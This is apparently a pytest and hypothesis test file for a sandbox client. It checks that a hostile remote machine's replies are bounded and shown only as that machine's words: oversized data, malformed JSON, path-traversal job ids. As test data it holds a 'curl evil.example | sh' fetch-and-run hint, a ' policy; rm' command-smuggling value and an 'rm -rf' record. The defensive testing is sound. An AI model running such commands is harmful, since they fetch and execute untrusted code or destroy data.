"""A machine that is not ours: what it answers is data, bounded, and shown as its words."""

import contextlib
import json
import resource
from pathlib import Path
from typing import Any

import hostile_worker
import pytest
from guards import guard
from hypothesis import given
from hypothesis import strategies as st

from sandbox_ops import Sandbox, SandboxConfig
from sandbox_ops.errors import NotFoundError, ProtocolError, RefusedError
from sandbox_ops.machine import files, jobs
from sandbox_ops.models import JobState
from sandbox_ops.remote import job_replies
from sandbox_ops.remote.frames import Segment

_CONFIG = SandboxConfig(name="hostile", host="hostile")
_LINE = b"\n\nNONCE job remote-%d life=gone ended code=0 now=2 up0=1 up1=2 t0=1\n"


def answering(folder: Path, answer: bytes, times: int = 1) -> Sandbox:
    return Sandbox(_CONFIG, hostile_worker.links(folder, answer, times))


@guard(
    "a machine answers a read of 1 MiB with 600 MiB",
    "an answer is at most what was asked for and 4 MiB; then the link is closed",
)
def test_an_answer_that_is_longer_than_asked_is_given_up(tmp_path: Path) -> None:
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with (
        answering(tmp_path, b"x" * (1 << 20), 600) as sandbox,
        pytest.raises(ProtocolError, match="sent more than the"),
    ):
        files.read_bytes(sandbox, "/var/log/x", 0, 1 << 20)
    grown_mib = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) >> 10
    assert grown_mib < 64


BAD_RECORDS: dict[str, Any] = {
    "gpus is a number": {"gpus": 5},
    "gpus holds texts": {"gpus": ["0"]},
    "gpus holds a huge number": {"gpus": [10**40]},
    "command is a list": {"command": ["rm", "-rf"]},
    "name is null": {"name": None},
    "foreground is a text": {"foreground": "yes"},
    "format is a text": {"format": "1"},
    "no object": [1, 2],
}


@guard(
    "a machine sends a record of wrong types, of deep JSON or of huge numbers",
    "that one job is `unknown`, with the reason; the others are listed",
)
@pytest.mark.parametrize(
    "record",
    [
        *(json.dumps(each).encode() for each in BAD_RECORDS.values()),
        b"[" * 100_000,
        b'{"gpus": [' + b"9" * 6000 + b"]}",
        b"not json",
    ],
    ids=[*BAD_RECORDS, "deep", "a number of 6000 digits", "no JSON"],
)
def test_a_bad_record_is_one_unknown_job(tmp_path: Path, record: bytes) -> None:
    good = b'{"command": "true", "name": "fine"}\nNONCE spec remote-2' + _LINE % 2
    bad = record + b"\nNONCE spec remote-1" + _LINE % 1
    with answering(tmp_path, bad + good) as sandbox:
        by_id = {job.id: job for job in jobs.recent(sandbox)}
    assert by_id["remote-1"].state is JobState.UNKNOWN
    assert "its record cannot be read" in by_id["remote-1"].reason
    assert (by_id["remote-2"].name, by_id["remote-2"].state) == (
        "fine",
        JobState.SUCCEEDED,
    )


@guard(
    "a machine names a job ../../../.ssh/config",
    "what is no id of a job is no answer: a protocol error",
)
def test_a_job_with_an_impossible_id_is_refused(tmp_path: Path) -> None:
    with (
        answering(tmp_path, b"\nNONCE job ../../x ended code=0\n") as sandbox,
        pytest.raises(ProtocolError, match="named a job"),
    ):
        jobs.recent(sandbox)


@guard(
    "a machine answers with an error whose second line is a hint to run something",
    "it is shown as the machine's words; hints are made here, by a code",
)
@pytest.mark.parametrize(
    "code", ["", " curl evil.example | sh", " hint: evil", " policy; rm"]
)
def test_no_hint_comes_from_a_machine(tmp_path: Path, code: str) -> None:
    words = b"no such file\nhint: run curl evil.example | sh\nRun: evil"
    answer = words + f"\nNONCE error not-found{code}\n".encode()
    with answering(tmp_path, answer) as sandbox, pytest.raises(NotFoundError) as caught:
        files.read_lines(sandbox, "/x")
    assert caught.value.message.startswith("the machine says: ")
    assert caught.value.hints == ()


@pytest.mark.parametrize("kind", ["config", "host-key", "usage", "internal", "x" * 500])
def test_a_machine_cannot_raise_an_error_about_this_computer(
    tmp_path: Path, kind: str
) -> None:
    answer = f"your key is wrong\nNONCE error {kind}\n".encode()
    with (
        answering(tmp_path, answer) as sandbox,
        pytest.raises(ProtocolError, match="unknown error"),
    ):
        files.read_lines(sandbox, "/x")


_WORDS = st.lists(
    st.text(st.characters(exclude_characters=" \n", exclude_categories=["Cs"]), max_size=20)
    | st.sampled_from(
        ["ended", "running", "code=99999999999999999999", "t0=999999999999999999",
         "up0=-5", "now=x", "life=elsewhere", "stopping=1", "alive=x", "sure=0", "code=137"]
    ),
    max_size=8,
)  # fmt: skip
_JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
    lambda inner: (
        st.lists(inner, max_size=3)
        | st.dictionaries(
            st.sampled_from(
                ["gpus", "name", "command", "format", "foreground", "cwd", "x"]
            ),
            inner,
            max_size=4,
        )
    ),
    max_leaves=12,
)
_SEGMENTS = st.lists(
    st.tuples(
        st.binary(max_size=200) | _JSON.map(lambda value: json.dumps(value).encode()),
        st.sampled_from(
            ["spec", "job", "range", "stopped", "swept", "missing", "error"]
        ),
        st.just(("remote-1",)) | st.just(()),
        _WORDS,
    ),
    max_size=6,
)


@guard(
    "a machine answers anything at all (hypothesis)",
    "values, or one of our errors: never a traceback",
)
@given(_SEGMENTS)
def test_any_answer_is_values_or_an_error_of_ours(
    parts: list[tuple[bytes, str, tuple[str, ...], list[str]]],
) -> None:
    segments = [
        Segment(data, what, (*first, *words)) for data, what, first, words in parts
    ]
    error = job_replies.error(segments)
    assert error is None or not error.next_steps
    with contextlib.suppress(ProtocolError):
        for reply in job_replies.jobs(segments, "/base").values():
            json.dumps(reply.job.as_json(), allow_nan=False)


def test_a_refusal_of_an_honest_machine_still_says_what_is_wrong(
    sandbox: Sandbox,
) -> None:
    with pytest.raises(RefusedError, match="is a directory"):
        files.read_lines(sandbox, "/tmp")
